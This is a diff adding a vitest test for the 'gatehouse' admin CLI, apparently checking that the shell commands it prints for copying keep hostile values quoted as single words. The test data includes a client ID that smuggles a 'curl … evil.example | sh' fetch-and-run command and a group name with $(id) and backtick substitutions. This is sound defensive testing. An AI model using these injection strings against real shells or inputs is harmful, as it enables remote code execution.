@@ -1,4 +1,5 @@
 // The command line works beside a running service on the same database, prints JSON on request, and reports an error in one line.
+import { execFileSync } from 'node:child_process';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { runCommand, runCommandProcess } from '../helpers/command-line.ts';
 import { call, eventually, obtainTokens, userinfo, withoutLimits } from '../helpers/grants.ts';
@@ -379,6 +380,27 @@ test('why names the user, what changes the refusal, and the command that checks 
   expect(stdout).toMatch(/^username +outsider$/m);
   expect(stdout).toMatch(/^The user is in none of the groups .*group add or client access changes that\.$/m);
   expect(stdout).toContain(`gatehouse user access outsider ${client.clientId}\n`);
+});
+
+test('a command to copy keeps each value one word of the shell, whatever characters it has (pages, commands)', async () => {
+  const words = (output: string, command: string) => {
+    const [, rest] = new RegExp(`gatehouse ${command} (.*)`).exec(output)!;
+    return execFileSync('sh', ['-c', `printf '%s\\n' ${rest}`], { encoding: 'utf8' })
+      .trimEnd()
+      .split('\n');
+  };
+  // an address that any site can give as client_id has as many characters as this one
+  const clientId = `a;curl$IFS-s$IFS$9'evil'.example|sh`;
+  const group = `the "staff" & 'friends'; $(id) \`id\``;
+  const redirectUri = 'https://app.example.test/callback';
+  await json(['client', 'create', '--name', 'Odd', '--client-id', clientId, '--redirect-uri', redirectUri]);
+  const user = await service.createUser({ username: 'outsider.2' });
+  const access = await run(['client', 'access', clientId, '--access', 'groups', '--group', group]);
+  expect(words(access.stdout, 'group create')).toEqual([group]);
+  expect(words((await run(['group', 'create', group])).stdout, 'group add')).toEqual([group, 'USER']);
+  const client = { ...(await service.createClient()), clientId, redirectUri };
+  const refused = await new UserAgent(service).authorize(client, user);
+  expect(words((await run(['why', refused.reference!])).stdout, 'user access')).toEqual(['outsider.2', clientId]);
 });
 
 describe('operations of the admin routes as commands (pages, commands)', () => {
